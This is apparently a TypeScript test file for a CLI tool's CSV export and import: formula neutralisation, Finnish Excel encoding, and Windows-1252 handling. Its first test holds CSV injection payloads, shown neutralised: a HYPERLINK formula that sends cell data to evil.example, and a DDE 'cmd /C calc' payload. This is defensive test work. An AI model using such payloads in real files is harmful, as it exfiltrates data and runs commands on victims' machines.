/** `lupa export` files as a spreadsheet opens them, and `lupa import` of files Excel saved: as real processes, on every store. */
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { lupa } from '../support/processes.ts';
import { freshStore, STORE_KINDS, type TestStore } from '../support/stores.ts';

const fixture = (name: string): string => fileURLToPath(new URL(`../fixtures/field/${name}`, import.meta.url));

for (const kind of STORE_KINDS) {
  describe(`exports safe to open, imports as Excel saves them [${kind}]`, () => {
    let store: TestStore;
    let dir: string;
    const db = (): string[] => ['--db', store.url];

    beforeAll(async () => {
      store = await freshStore(kind);
      dir = mkdtempSync(join(tmpdir(), 'lupa-export-'));
      const imported = await lupa([...db(), 'import', fixture('ndjson-formula-name-for-call-list.ndjson')]);
      expect(imported.code).toBe(0);
    });
    afterAll(async () => {
      await store.drop();
    });

    it('neutralises a name and a street written as formulas in the call list and the print file', async () => {
      const calls = join(dir, 'calls.csv');
      expect((await lupa([...db(), 'export', 'calls', '--out', calls])).code).toBe(0);
      const callRows = readFileSync(calls, 'utf8').split('\r\n');
      const f001 = callRows.find((r) => r.startsWith('F001,'));
      expect(f001).toBe(`F001,"'=HYPERLINK(""http://evil.example/?d=""&C2&C3,""Soita tästä"")","'+358405550001",fi,legitimate_interest,${f001?.split(',').slice(-2).join(',')}`);
      expect(callRows.find((r) => r.startsWith('F002,'))).toMatch(/^F002,Liisa Esimerkki,"'\+358405550002",fi,/);

      const post = join(dir, 'post.csv');
      expect((await lupa([...db(), 'export', 'post', '--out', post])).code).toBe(0);
      const f001Post = readFileSync(post, 'utf8').split('\r\n').find((r) => r.startsWith('F001,'));
      expect(f001Post).toBe(`F001,"'=HYPERLINK(""http://evil.example/?d=""&C2&C3,""Soita tästä"")","'@SUM(1+1)*cmd|' /C calc'!A0",00100,Helsinki,FI,legitimate_interest`);
    });

    it('writes for Finnish Excel with --excel or LUPA_CSV_EXCEL=1: byte-order mark, semicolons, CRLF', async () => {
      const byOption = join(dir, 'post-excel.csv');
      expect((await lupa([...db(), 'export', 'post', '--excel', '--out', byOption])).code).toBe(0);
      const bySetting = join(dir, 'post-setting.csv');
      expect((await lupa([...db(), 'export', 'post', '--out', bySetting], { LUPA_CSV_EXCEL: '1' })).code).toBe(0);
      for (const file of [byOption, bySetting]) {
        const text = readFileSync(file, 'utf8');
        expect(text.startsWith('\uFEFFcustomerId;name;street;postalCode;city;country;basis\r\n')).toBe(true);
        expect(text).toContain('F002;Liisa Esimerkki;Aleksanterinkatu 5;00100;Helsinki;FI;legitimate_interest\r\n');
      }
    });

    it('imports a Windows-1252 file only with --encoding windows-1252', async () => {
      const refused = await lupa([...db(), 'import', fixture('csv-windows1252-ansi-umlauts.csv')]);
      expect([refused.code, refused.stderr]).toEqual([1, expect.stringMatching(/^line 2: nothing was imported: the line is not valid UTF-8/m)]);
      // The file itself was refused: no "read 0 rows" beside "1 rows rejected".
      expect(refused.stdout).toBe('imported nothing: the file was refused (why: below)\n');
      expect(refused.stderr).not.toMatch(/rows? rejected/);
      const imported = await lupa([...db(), 'import', '--encoding', 'windows-1252', fixture('csv-windows1252-ansi-umlauts.csv')]);
      expect([imported.code, imported.stdout]).toEqual([0, 'read 2 rows; imported 2 customers\n']);
    });

    it('imports a semicolon-separated file from Finnish Excel, saying so, with ä, ö and å intact', async () => {
      const semicolons = await lupa([...db(), 'import', fixture('csv-excel-fi-semicolon-bom.csv')]);
      expect([semicolons.code, semicolons.stderr]).toEqual([0, expect.stringContaining("note: the header holds ';'")]);
      const post = join(dir, 'post-umlauts.csv');
      await lupa([...db(), 'export', 'post', '--postcode-prefix', '20', '--out', post]);
      expect(readFileSync(post, 'utf8')).toContain('C2102,Öhman Åsa,Åbovägen 3,20100,Åbo,FI,legitimate_interest');
    });
  });
}
